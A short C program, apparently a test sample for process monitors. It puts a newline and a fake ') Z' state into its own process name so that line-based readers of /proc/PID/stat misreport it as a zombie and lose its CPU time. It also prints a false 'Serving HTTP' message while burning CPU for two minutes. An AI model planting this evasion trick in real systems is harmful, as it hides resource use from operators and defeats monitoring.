/*
 * Attack: takes a processor, with a line end in its name, so that whoever reads /proc/PID/stat by
 * the line finds neither its state nor its time. After two minutes it stops by itself.
 */
#define _POSIX_C_SOURCE 200809L
#include <stdio.h>
#include <sys/prctl.h>
#include <time.h>

int main(void) {
    struct timespec used;
    if (prctl(PR_SET_NAME, "a) Z\n") == -1) return 1;
    puts("Serving HTTP on port 1 ...");
    fflush(stdout);
    do clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &used);
    while (used.tv_sec < 120);
    return 0;
}
